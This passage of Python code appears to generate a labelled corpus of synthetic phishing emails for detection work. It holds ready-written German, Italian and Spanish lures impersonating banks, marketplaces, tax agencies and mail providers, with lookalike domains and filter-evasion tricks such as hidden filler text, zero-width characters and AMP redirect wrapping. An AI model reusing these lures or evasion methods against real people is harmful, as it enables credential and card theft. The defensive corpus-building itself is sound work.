        "from a gmx.net freemail account to a web.de seller; the confirmation link is a wixsite.com page that "
        "asks for card data")
def _(name):
    sent = when("Sun, 14 Apr 2024 19:22:41 +0200")
    rcpt = "lena.voigt@web.de"
    sender = "maximilian.kraus92@gmx.net"
    hop, route = unitedinternet_route(name, sent, "178.175.131.99", "gmx.net")
    a = Auth(sender, "gmx.net", "pass", "pass", "gmx.net", "s31663417", "pass", "quarantine")
    url = f"https://kleinanzeigen-sicherbezahlen.wixsite.com/zahlung/bestaetigen?id={digits(name, 'id', 10)}"
    plain = f"""Hallo Lena,

ich habe Ihren Artikel "Kinderfahrrad Puky 18 Zoll" für 120 € gekauft und über "Sicher bezahlen"
bezahlt. Kleinanzeigen hat das Geld bereits reserviert.

Damit das Geld an Sie ausgezahlt wird, müssen Sie den Zahlungseingang nur noch bestätigen:
{url}

Den Versand übernimmt DHL, das Etikett bekommen Sie danach per E-Mail.

Viele Grüße
Maximilian

--------------------------------------------
Kleinanzeigen – Sicher bezahlen
Zahlungseingang: 120,00 EUR – Status: wartet auf Bestätigung durch den Verkäufer
"""
    html = f"""<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Hallo Lena,</div>
<div>&nbsp;</div><div>ich habe Ihren Artikel &quot;Kinderfahrrad Puky 18 Zoll&quot; f&uuml;r 120&nbsp;&euro; gekauft und &uuml;ber &quot;Sicher bezahlen&quot; bezahlt. Kleinanzeigen hat das Geld bereits reserviert.</div>
<div>&nbsp;</div><div>Damit das Geld an Sie ausgezahlt wird, m&uuml;ssen Sie den Zahlungseingang nur noch best&auml;tigen:</div>
<div><a href="{url}">Zahlungseingang best&auml;tigen</a></div>
<div>&nbsp;</div><div>Den Versand &uuml;bernimmt DHL, das Etikett bekommen Sie danach per E-Mail.</div>
<div>&nbsp;</div><div>Viele Gr&uuml;&szlig;e<br>Maximilian</div>
<div style="margin-top:18px;border:1px solid #d5e2c3;padding:12px;background:#f4f8ee"><b style="color:#326916">Kleinanzeigen</b> &ndash; Sicher bezahlen<br>Zahlungseingang: <b>120,00 EUR</b> &ndash; Status: wartet auf Best&auml;tigung durch den Verk&auml;ufer</div>
</div></body></html>
"""
    headers = [
        *ui_out(name),
        *std(addr("Maximilian Kraus", sender), rcpt, 'Kinderfahrrad Puky 18 Zoll – bezahlt über "Sicher bezahlen"', rfc(sent),
             f"trinity-{uuid(name, 'trinity')}-{digits(name, 'tr', 13)}@3c-app-gmx-bap{int(hexid(name, 'bap', 1), 16) % 60:02d}"),
        "Importance: normal",
        "Sensitivity: Normal",
    ]
    return assemble(name, "webde", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-gmx-postfach-voll-grnx-lookalike.eml",
        "'GMX: Ihr Postfach ist voll, eingehende Nachrichten werden abgewiesen' from service@grnx.net (rn for m) to a "
        "gmx.de user; the login page is on the same lookalike domain")
def _(name):
    sent = when("Tue, 05 Nov 2024 22:38:19 +0100")
    rcpt = "petra.schulze66@gmx.de"
    dom = "grnx.net"
    sender = f"service@{dom}"
    hop = Hop(f"mx.{dom}", "45.95.169.213")
    a = Auth(sender, dom, "pass", "pass", dom, "s1", "pass", "none")
    url = f"https://login.{dom}/postfach/speicher?u={base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip('=')}"
    route = [
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mx.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
        dkim(name, dom, "s1", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
    ]
    plain = f"""GMX

Hallo {rcpt},

Ihr Postfach hat die maximale Speichergröße erreicht (1.024 MB von 1.024 MB).
Eingehende Nachrichten werden ab sofort abgewiesen.

Melden Sie sich an, um kostenlos zusätzlichen Speicherplatz freizuschalten:
{url}

Ihr GMX Sicherheitsteam
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:560px;margin:auto"><div style="background:#1c449b;color:#fff;padding:14px 18px;font-size:24px;font-weight:bold">GMX</div>
<div style="padding:18px;border:1px solid #ddd;line-height:1.5">
<p>Hallo {rcpt},</p>
<p>Ihr Postfach hat die maximale Speichergröße erreicht (<b>1.024 MB von 1.024 MB</b>). Eingehende Nachrichten werden ab sofort <b>abgewiesen</b>.</p>
<p><a href="{url}" style="background:#1c449b;color:#fff;padding:10px 22px;text-decoration:none">Speicherplatz freischalten</a></p>
<p>Ihr GMX Sicherheitsteam</p></div></div></body></html>
"""
    headers = std(addr("GMX Sicherheitsteam", sender), rcpt, "Ihr Postfach ist voll – eingehende Nachrichten werden abgewiesen",
                  rfc(sent), f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "gmx", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-amazon-de-konto-gesperrt-pdf-link-mailgun.eml",
        "Amazon.de 'Ihr Konto wurde vorübergehend gesperrt' sent through an abused Mailgun account for "
        "amz-kundenservice.de to a tiling firm on Strato; the attached PDF's only button links to a "
        "firebaseapp.com verification kit")
def _(name):
    sent = when("Thu, 16 May 2024 11:21:30 +0000")
    rcpt = "info@fliesen-krause.de"
    dom = "amz-kundenservice.de"
    hop, route, env = mailgun_route(name, dom, sent)
    env = env.replace("{rcpt}", rcpt.replace("@", "="))
    a = Auth(env, dom, "pass", "pass", dom, "k1", "none", "absent")
    case = f"{digits(name, 'c1', 3)}-{digits(name, 'c2', 7)}-{digits(name, 'c3', 7)}"
    link = f"https://amzn-konto-verifizierung.firebaseapp.com/de/?case={case}"
    pdf = pdf_doc(
        [latin1("Sehr geehrte Kundin, sehr geehrter Kunde,"), "",
         latin1("wir haben ungewöhnliche Aktivitäten in Ihrem Amazon-Konto festgestellt und es"),
         latin1("zu Ihrem Schutz vorübergehend gesperrt. Offene Bestellungen wurden angehalten."), "",
         latin1(f"Fallnummer: {case}"), "",
         latin1("Bitte bestätigen Sie Ihre Identität und Zahlungsmethode innerhalb von 24 Stunden."),
         latin1("Andernfalls wird Ihr Konto dauerhaft geschlossen."), "",
         latin1("Amazon Kundenservice")],
        "Amazon Kontosperrung", producer="Skia/PDF m124", creator="Chromium", created="20240516112000+00'00'",
        link=(link, latin1("Konto jetzt verifizieren")), header_lines=["amazon.de", latin1("Ihr Konto wurde gesperrt")])
    plain = f"""Sehr geehrte Kundin, sehr geehrter Kunde,

Ihr Amazon-Konto wurde vorübergehend gesperrt. Einzelheiten und die nächsten Schritte finden Sie im
angehängten Dokument (Fallnummer {case}).

Amazon.de Kundenservice
"""
    headers = [
        f"Sender: {addr('Amazon.de', 'service@' + dom)}",
        f"Date: {rfc(sent)}",
        "Mime-Version: 1.0",
        f"Subject: {enc('Ihr Amazon-Konto wurde vorübergehend gesperrt – Fall ' + case, 'Q')}",
        f"From: {addr('Amazon.de', 'service@' + dom)}",
        f"To: {rcpt}",
        f"X-Mailgun-Tag: kontoschutz",
        f"Message-Id: <{sent:%Y%m%d%H%M%S}.{hexid(name, 'mid', 16)}@{dom}>",
    ]
    body = Multi("mixed", hexid(name, "bnd", 60), [text(plain), attachment("application/pdf", f"Amazon_Fall_{case}.pdf", pdf)])
    return assemble(name, "strato", rcpt, later(sent, 3), hop, a, route, headers, body)


def aruba_route(name: str, dt: datetime, client_ip: str) -> tuple[Hop, list[str]]:
    n = 10 + int(hexid(name, "arout", 2), 16) % 20
    lines = [
        f"Received: from [192.168.1.{10 + int(hexid(name, 'alan', 1), 16)}] ([{client_ip}])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n"
        f"\tid {alnum(name, 'arid', 22)}; {rfc(dt, cet(dt))}",
        dkim(name, "aruba.it", "a1", dt, "Content-Type:Date:MIME-Version:Subject:From:To:Message-ID"),
        f"X-CMAE-Envelope: MS4xfI{b64(name, 'acmae', 150).replace('=', '')}",
    ]
    return Hop(f"smtpdh{n}-1.aruba.it", f"62.149.155.{140 + n}"), lines


def brevo_route(name: str, domain: str, dt: datetime) -> tuple[Hop, list[str], str]:
    n = 1 + int(hexid(name, "brv", 2), 16) % 250
    env = f"bounces-{digits(name, 'brvb', 7)}-{hexid(name, 'brvb2', 8)}@mailin-{int(hexid(name, 'brvm', 1), 16) % 9}.{'sendinblue.com'}"
    lines = [
        dkim(name, domain, "mail", dt, "Content-Type:From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:Message-Id:\n\tMime-Version:Feedback-ID", c="relaxed/relaxed", label="brv"),
        dkim(name, "sendinblue.com", "mail", dt, "Content-Type:From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:Message-Id", label="sib"),
    ]
    return Hop(f"mail{n}.sender-sib.com", f"77.32.148.{n}"), lines, env


def google_amp(target: str) -> str:
    return "https://www.google.com/amp/s/" + target.split("://", 1)[1]


# --------------------------------------------------------------------------------------------
# PHISHING — Italian
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-intesa-sanpaolo-o-key-smart-aruba-glitch.eml",
        "Intesa Sanpaolo 'aggiornamento obbligatorio O-Key Smart' from a hardware shop's hijacked Aruba mailbox "
        "(signed d=aruba.it, From ferramentarossi-srl.it) to a libero.it customer; the link is a glitch.me kit")
def _(name):
    sent = when("Wed, 08 Mar 2023 08:14:39 +0100")
    rcpt = "giuseppe.marino71@libero.it"
    dom = "ferramentarossi-srl.it"
    sender = f"amministrazione@{dom}"
    hop, route = aruba_route(name, sent, "196.200.132.17")
    a = Auth(sender, dom, "pass", "pass", "aruba.it", "a1", "none", "absent")
    url = f"https://intesa-okey-smart.glitch.me/accesso?cod={digits(name, 'cod', 8)}"
    plain = f"""Intesa Sanpaolo

Gentile Cliente,

a partire dal 10/03/2023 il sistema di sicurezza O-Key Smart verrà aggiornato. Per continuare a
operare con l'app e l'Internet Banking è necessario confermare il dispositivo entro 48 ore.

Aggiorna O-Key Smart: {url}

In assenza di aggiornamento le funzioni dispositive saranno sospese.

Cordiali saluti,
Intesa Sanpaolo S.p.A.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto;border:1px solid #ddd">
<div style="padding:16px;border-bottom:4px solid #1c7b3d;color:#1c7b3d;font-size:20px"><b>INTESA <span style="color:#f29400">SANPAOLO</span></b></div>
<div style="padding:20px;line-height:1.5">
<p>Gentile Cliente,</p>
<p>a partire dal <b>10/03/2023</b> il sistema di sicurezza <b>O-Key Smart</b> verrà aggiornato. Per continuare a operare con l'app e l'Internet Banking è necessario confermare il dispositivo entro <b>48 ore</b>.</p>
<p><a href="{url}" style="background:#1c7b3d;color:#fff;padding:11px 22px;text-decoration:none">Aggiorna O-Key Smart</a></p>
<p>In assenza di aggiornamento le funzioni dispositive saranno sospese.</p>
<p>Cordiali saluti,<br>Intesa Sanpaolo S.p.A.</p></div></div></body></html>
"""
    headers = [
        *std(addr("Intesa Sanpaolo", sender), rcpt, "Aggiornamento obbligatorio O-Key Smart", rfc(sent),
             f"{hexid(name, 'mid', 32)}@{dom}"),
        "X-Mailer: Open-Xchange Mailer v7.10.6-Rev42",
        "X-Originating-IP: 196.200.132.17",
    ]
    return assemble(name, "libero", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-poste-italiane-carta-sospesa-ses-tinyurl.eml",
        "Poste Italiane 'la sua carta BancoPosta è stata sospesa' sent via Amazon SES for the unrelated "
        "bancoposta-sicurezza.com to a virgilio.it customer; the unlock link is a tinyurl.com shortener")
def _(name):
    sent = when("Tue, 17 Oct 2023 13:08:51 +0000")
    rcpt = "rosa.esposito@virgilio.it"
    dom = "bancoposta-sicurezza.com"
    hop, route, env = ses_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "sessel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "none", "absent",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    url = "https://tinyurl.com/bancoposta-sblocco-" + alnum(name, "tiny", 5).lower()
    plain = f"""Poste Italiane

Gentile Cliente,

per motivi di sicurezza la sua carta BancoPosta è stata temporaneamente sospesa a seguito di un
tentativo di accesso non autorizzato.

Per riattivarla è sufficiente verificare i suoi dati:
{url}

Poste Italiane S.p.A. – Patrimonio BancoPosta
"""
    html = f"""<html><body style="font-family:Titillium Web,Arial,sans-serif;font-size:14px">
<div style="max-width:600px;margin:auto"><div style="background:#ffd200;padding:14px 18px;color:#004691;font-size:20px"><b>Poste</b>italiane</div>
<div style="padding:18px;border:1px solid #eee;line-height:1.5">
<p>Gentile Cliente,</p>
<p>per motivi di sicurezza la sua <b>carta BancoPosta</b> è stata temporaneamente <b>sospesa</b> a seguito di un tentativo di accesso non autorizzato.</p>
<p><a href="{url}" style="background:#004691;color:#fff;padding:10px 20px;text-decoration:none">Riattiva la carta</a></p>
<p style="font-size:11px;color:#666">Poste Italiane S.p.A. – Patrimonio BancoPosta</p></div></div></body></html>
"""
    headers = [
        f"Subject: {enc('Avviso: la sua carta BancoPosta è stata sospesa', 'B')}",
        f"From: {addr('Poste Italiane', 'avvisi@' + dom)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"Message-ID: <{env.split('@')[0]}@email.amazonses.com>",
        f"Date: {rfc(sent)}",
        f"Feedback-ID: ::1.eu-west-1.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: 2023.10.17-{hop.ip}",
    ]
    return assemble(name, "virgilio", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-unicredit-psd2-aggiornamento-firebase.eml",
        "UniCredit 'adeguamento normativa PSD2: verifica i tuoi dati' from the throwaway unicredit-notifiche.net "
        "to a libero.it customer; the verification form is hosted on firebaseapp.com")
def _(name):
    sent = when("Thu, 25 Jan 2024 10:52:18 +0100")
    rcpt = "f.colombo@libero.it"
    dom = "unicredit-notifiche.net"
    sender = f"servizioclienti@{dom}"
    hop = Hop(f"mail.{dom}", "80.76.49.108")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "pass", "none")
    url = f"https://unicredit-psd2-it.firebaseapp.com/verifica?u={hexid(name, 'u', 12)}"
    route = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
        dkim(name, dom, "default", sent, "Date:From:To:Subject:From"),
    ]
    plain = f"""UniCredit

Gentile cliente,

in conformità alla Direttiva europea sui servizi di pagamento (PSD2), la invitiamo ad aggiornare i
dati del suo profilo e a confermare il numero di cellulare associato al servizio Mobile Token.

Aggiorna ora: {url}

Se l'aggiornamento non verrà completato entro il 31/01/2024, l'accesso a Banca via Internet sarà limitato.

UniCredit S.p.A.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#262626">
<div style="max-width:600px;margin:auto"><div style="background:#e2001a;color:#fff;padding:14px 18px;font-size:22px"><b>UniCredit</b></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p>Gentile cliente,</p>
<p>in conformità alla Direttiva europea sui servizi di pagamento (<b>PSD2</b>), la invitiamo ad aggiornare i dati del suo profilo e a confermare il numero di cellulare associato al servizio <b>Mobile Token</b>.</p>
<p><a href="{url}" style="background:#e2001a;color:#fff;padding:10px 22px;text-decoration:none">Aggiorna ora</a></p>
<p>Se l'aggiornamento non verrà completato entro il <b>31/01/2024</b>, l'accesso a Banca via Internet sarà limitato.</p>
<p>UniCredit S.p.A.</p></div></div></body></html>
"""
    headers = std(addr("UniCredit", sender), rcpt, "Adeguamento PSD2: aggiornamento dati richiesto", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "libero", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-agenzia-entrate-rimborso-hidden-filler-wordpress.eml",
        "Agenzia delle Entrate 'rimborso fiscale di 312,40 €' from a surveyor's hijacked webmail (SPF pass for "
        "studiotecnicobianchi.it) to a virgilio.it taxpayer; the body is padded with invisible Italian news text and "
        "the form is inside wp-content/uploads of a compromised agriturismo site")
def _(name):
    sent = when("Mon, 10 Jun 2024 07:33:27 +0200")
    rcpt = "antonio.greco58@virgilio.it"
    dom = "studiotecnicobianchi.it"
    sender = f"segreteria@{dom}"
    hop = Hop(f"cp{digits(name, 'cp', 3)}.sgvps.net", "35.214.198.77", f"mail.{dom}")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "none", "absent")
    url = "https://www.agriturismo-poggioalsole.it/wp-content/uploads/2024/05/ade/rimborso/index.php"
    filler = ("Meteo: sole e temperature in aumento su tutta la penisola nel fine settimana. Calcio: pareggio nel derby, "
              "la classifica resta corta in zona Europa. Ricetta del giorno: pasta alla norma con melanzane fritte, "
              "ricotta salata e basilico fresco. Traffico intenso sulla A14 per i primi esodi estivi.")
    plain = f"""Agenzia delle Entrate

Gentile contribuente,

a seguito dei controlli sulla dichiarazione dei redditi 2023 risulta a suo favore un rimborso di 312,40 €.
Per ricevere l'accredito compili il modulo con le coordinate della carta o del conto:

{url}

Il rimborso sarà disponibile entro 5 giorni lavorativi.

Agenzia delle Entrate
"""
    html = f"""<html><body style="font-family:Titillium Web,Arial,sans-serif;font-size:14px;color:#1a1a1a">
<span style="display:none!important;visibility:hidden;opacity:0;color:transparent;height:0;width:0;font-size:0">{filler}</span>
<div style="max-width:600px;margin:auto"><div style="background:#0059b3;color:#fff;padding:14px 18px;font-size:20px">Agenzia delle Entrate</div>
<div style="padding:18px;border:1px solid #ddd;line-height:1.5">
<p>Gentile contribuente,</p>
<p>a seguito dei controlli sulla dichiarazione dei redditi 2023 risulta a suo favore un <b>rimborso di 312,40 €</b>.</p>
<p>Per ricevere l'accredito compili il modulo con le coordinate della carta o del conto.</p>
<p><a href="{url}" style="background:#0059b3;color:#fff;padding:10px 20px;text-decoration:none">Richiedi il rimborso</a></p>
<p>Il rimborso sarà disponibile entro 5 giorni lavorativi.</p></div></div>
<div style="font-size:1px;line-height:1px;color:#ffffff;max-height:0;overflow:hidden">{filler} {filler}</div>
</body></html>
"""
    route = [
        f"Received: from [105.112.22.58] (port={digits(name, 'port', 5)} helo=webmail.{dom})\n\tby {hop.ptr} with esmtpsa (Exim 4.97)\n"
        f"\t(envelope-from <{sender}>)\n\tid 1sGb{alnum(name, 'ex', 3)}-00{alnum(name, 'ex2', 5)}-{alnum(name, 'ex3', 2)};\n\t{rfc(sent)}",
        dkim(name, dom, "default", sent, "Content-Transfer-Encoding:Content-Type:Message-ID:Subject:To:From:\n\tDate:MIME-Version:Sender:Reply-To"),
    ]
    headers = [
        "MIME-Version: 1.0",
        f"Date: {rfc(sent)}",
        f"From: {addr('Agenzia delle Entrate', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('Comunicazione rimborso fiscale – pratica n. ' + digits(name, 'prat', 8), 'Q')}",
        f"Message-ID: <{hexid(name, 'mid', 32)}@{dom}>",
        "User-Agent: Roundcube Webmail/1.6.7",
    ]
    return assemble(name, "virgilio", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"=_{hexid(name, 'b', 32)}"))


@sample("phishing", "b12-booking-partner-recensione-ospite-aruba-bnb.eml",
        "Booking.com partner phishing to a B&B on Aruba: 'un ospite ha segnalato un problema, verifica la struttura "
        "entro 24 ore' from the lookalike partner-booking-hub.com (not booking.com), the Extranet login link on a "
        ".click domain")
def _(name):
    sent = when("Fri, 22 Nov 2024 16:05:44 +0000")
    rcpt = "info@bbilglicine.it"
    dom = "partner-booking-hub.com"
    sender = f"noreply@{dom}"
    hop = Hop(f"smtp.{dom}", "141.98.10.194")
    a = Auth(sender, dom, "pass", "pass", dom, "s1", "pass", "none")
    rid = digits(name, "res", 10)
    url = f"https://extranet.booking-partnerhub.click/hotel/hoteladmin/login?hotel_id={digits(name, 'hid', 7)}&res={rid}"
    route = [
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby smtp.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0000', 'UTC')}",
        dkim(name, dom, "s1", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
    ]
    plain = f"""Booking.com – Partner Hub

Gentile partner,

un ospite ha segnalato un problema relativo alla prenotazione n. {rid} (check-in 28/11/2024) e ha
richiesto il rimborso. Per evitare la sospensione temporanea della struttura dai risultati di ricerca,
verifichi la segnalazione e confermi i dati della struttura entro 24 ore tramite l'Extranet:

{url}

Cordiali saluti,
Il team Booking.com Partner Services
"""
    html = f"""<html><body style="font-family:BlinkMacSystemFont,-apple-system,Segoe UI,Arial,sans-serif;font-size:14px;color:#262626">
<div style="max-width:600px;margin:auto"><div style="background:#003580;color:#fff;padding:14px 18px;font-size:20px"><b>Booking.com</b> <span style="font-size:13px">Partner Hub</span></div>
<div style="padding:20px;border:1px solid #e7e7e7;line-height:1.5">
<p>Gentile partner,</p>
<p>un ospite ha segnalato un problema relativo alla prenotazione n. <b>{rid}</b> (check-in 28/11/2024) e ha richiesto il rimborso.</p>
<p>Per evitare la <b>sospensione temporanea</b> della struttura dai risultati di ricerca, verifichi la segnalazione e confermi i dati della struttura entro <b>24 ore</b>.</p>
<p><a href="{url}" style="background:#006ce4;color:#fff;padding:11px 22px;border-radius:4px;text-decoration:none">Apri l'Extranet</a></p>
<p>Cordiali saluti,<br>Il team Booking.com Partner Services</p></div></div></body></html>
"""
    headers = std(addr("Booking.com Partner Services", sender), rcpt, f"Azione richiesta: segnalazione ospite – prenotazione {rid}",
                  rfc(sent), f"{uuid(name, 'mid')}@{dom}")
    return assemble(name, "aruba", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-subito-acquirente-ha-pagato-zero-width.eml",
        "Subito 'l'acquirente ha pagato con TuttoSubito, conferma per ricevere il denaro' from a gmail.com fake buyer "
        "to a libero.it seller, with zero-width characters sprinkled through the key words; link to a netlify.app form")
def _(name):
    sent = when("Sun, 03 Mar 2024 18:41:06 +0100")
    rcpt = "chiara.ricci.92@libero.it"
    sender = "davide.conti.acquisti@gmail.com"
    hop, route = gmail_route(name, sender, rcpt, sent)
    a = Auth(sender, "gmail.com", "pass", "pass", "gmail.com", "20230601", "pass", "none")
    url = f"https://subito-it-transazione.netlify.app/ricevi-pagamento?ordine={digits(name, 'ord', 9)}"
    plain = f"""Ciao Chiara,

ho {zw('acquistato')} il tuo annuncio "Bicicletta da corsa Bianchi Via Nirone" e ho già {zw('pagato')} 450 € con
{zw('TuttoSubito')}. Il {zw('pagamento')} è in attesa: devi solo {zw('confermare')} per ricevere i soldi sulla tua carta.

{zw('Conferma qui')}: {url}

Il corriere passa a ritirare lunedì. Grazie!
Davide
"""
    html = f"""<div dir="ltr">Ciao Chiara,<div><br></div><div>ho {zw('acquistato')} il tuo annuncio &quot;Bicicletta da corsa Bianchi Via Nirone&quot; e ho già {zw('pagato')} 450 € con {zw('TuttoSubito')}. Il {zw('pagamento')} è in attesa: devi solo {zw('confermare')} per ricevere i soldi sulla tua carta.</div><div><br></div><div><a href="{url}">{zw('Conferma qui')}</a></div><div><br></div><div>Il corriere passa a ritirare lunedì. Grazie!</div><div>Davide</div></div>
"""
    headers = [
        "MIME-Version: 1.0",
        f"From: {addr('Davide Conti', sender)}",
        f"Date: {rfc(sent)}",
        f"Message-ID: <CA+{alnum(name, 'gmid', 40)}@mail.gmail.com>",
        f"Subject: {enc('Pagamento ' + zw('TuttoSubito') + ' – Bicicletta Bianchi', 'B')}",
        f"To: {rcpt}",
    ]
    return assemble(name, "libero", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"000000000000{hexid(name, 'gb', 16)}"))


@sample("phishing", "b12-libero-mail-casella-piena-workers-dev.eml",
        "'Libero Mail: la tua casella ha superato il limite di spazio' from the throwaway liberomail-assistenza.xyz "
        "to a libero.it user; the login page is a workers.dev script pre-filled with the address")
def _(name):
    sent = when("Wed, 12 Feb 2025 05:27:31 +0100")
    rcpt = "marco.bellini@libero.it"
    dom = "liberomail-assistenza.xyz"
    sender = f"noreply@{dom}"
    hop = Hop(f"mail.{dom}", "147.45.112.39")
    a = Auth(sender, dom, "pass", "none", "", "", "none", "absent")
    url = f"https://libero-login.mail-quota-it.workers.dev/?email={rcpt}"
    route = [f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
             f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}"]
    plain = f"""Libero Mail

Gentile utente {rcpt},

la tua casella di posta ha superato il limite di spazio disponibile (100%).
I nuovi messaggi non verranno recapitati e saranno eliminati dopo 72 ore.

Accedi per liberare spazio gratuitamente: {url}

Lo staff di Libero Mail
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px">
<div style="max-width:560px;margin:auto;border:1px solid #ddd"><div style="background:#0a4da3;color:#fff;padding:12px 16px;font-size:22px"><b>Libero</b> Mail</div>
<div style="padding:18px;line-height:1.5"><p>Gentile utente <b>{rcpt}</b>,</p>
<p>la tua casella di posta ha superato il limite di spazio disponibile (<b style="color:#c00">100%</b>). I nuovi messaggi non verranno recapitati e saranno eliminati dopo 72 ore.</p>
<p><a href="{url}" style="background:#f5a623;color:#000;padding:10px 20px;text-decoration:none">Libera spazio</a></p>
<p>Lo staff di Libero Mail</p></div></div></body></html>
"""
    headers = std(addr("Libero Mail", sender), rcpt, "Avviso: la tua casella Libero Mail è piena", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "libero", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


# --------------------------------------------------------------------------------------------
# PHISHING — Spanish
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-bbva-nuevo-sistema-seguridad-compromised-wordpress.eml",
        "BBVA 'nuevo sistema de seguridad, active su dispositivo' from a tax adviser's hijacked webmail (SPF/DKIM "
        "pass for asesoria-lopez-gandia.es) to a telefonica.net customer; the link is a kit under wp-content/uploads "
        "of a compromised rural-house WordPress")
def _(name):
    sent = when("Tue, 20 Feb 2024 08:47:12 +0100")
    rcpt = "mjose.garcia@telefonica.net"
    dom = "asesoria-lopez-gandia.es"
    sender = f"info@{dom}"
    hop = Hop(f"cp{digits(name, 'cp', 3)}.webempresa.eu", "185.40.31.70", f"webmail.{dom}")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "none", "absent")
    url = f"https://www.casaruralelolivar.es/wp-content/uploads/2024/02/bbva/es/particulares/acceso.php?id={hexid(name, 'id', 10)}"
    route = [
        f"Received: from [41.203.73.15] (port={digits(name, 'port', 5)} helo=webmail.{dom})\n\tby {hop.ptr} with esmtpsa (Exim 4.96.2)\n"
        f"\t(envelope-from <{sender}>)\n\tid 1rcM{alnum(name, 'ex', 3)}-00{alnum(name, 'ex2', 5)}-{alnum(name, 'ex3', 2)};\n\t{rfc(sent)}",
        dkim(name, dom, "default", sent, "Content-Transfer-Encoding:Content-Type:Message-ID:Subject:To:From:\n\tDate:MIME-Version:Sender:Reply-To"),
    ]
    plain = f"""BBVA

Estimado cliente:

Hemos implantado un nuevo sistema de seguridad para proteger sus operaciones online. Para seguir
utilizando la banca online y la app BBVA debe activar su dispositivo antes del 23/02/2024.

Activar dispositivo: {url}

Si no realiza la activación, su acceso quedará bloqueado de forma preventiva.

Atentamente,
BBVA – Servicio de Atención al Cliente
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#121212">
<div style="max-width:600px;margin:auto"><div style="background:#072146;color:#fff;padding:16px 18px;font-size:24px"><b>BBVA</b></div>
<div style="padding:20px;border:1px solid #e9e9e9;line-height:1.5">
<p>Estimado cliente:</p>
<p>Hemos implantado un <b>nuevo sistema de seguridad</b> para proteger sus operaciones online. Para seguir utilizando la banca online y la app BBVA debe activar su dispositivo antes del <b>23/02/2024</b>.</p>
<p><a href="{url}" style="background:#1973b8;color:#fff;padding:11px 24px;text-decoration:none">Activar dispositivo</a></p>
<p>Si no realiza la activación, su acceso quedará bloqueado de forma preventiva.</p>
<p>Atentamente,<br>BBVA – Servicio de Atención al Cliente</p></div></div></body></html>
"""
    headers = [
        "MIME-Version: 1.0",
        f"Date: {rfc(sent)}",
        f"From: {addr('BBVA', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('BBVA: active su dispositivo – nuevo sistema de seguridad', 'Q')}",
        f"Message-ID: <{hexid(name, 'mid', 32)}@{dom}>",
        "User-Agent: Roundcube Webmail/1.6.5",
    ]
    return assemble(name, "telefonica", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"=_{hexid(name, 'b', 32)}"))


@sample("phishing", "b12-santander-clave-seguridad-brevo-google-amp.eml",
        "Santander 'su clave de seguridad caduca hoy' sent through an abused Brevo (Sendinblue) account for "
        "santander-clientes-es.com to a hotmail.es customer; the link is a google.com/amp/s/ wrapper around a "
        "weebly.com page")
def _(name):
    sent = when("Mon, 15 Apr 2024 11:16:05 +0000")
    rcpt = "pablo.moreno_84@hotmail.es"
    dom = "santander-clientes-es.com"
    hop, route, env = brevo_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, "mail", "none", "absent", dkim_extra=("sendinblue.com", "mail"))
    target = f"https://santander-clave-segura.weebly.com/?c={hexid(name, 'c', 8)}"
    url = google_amp(target)
    plain = f"""Santander

Estimado/a cliente:

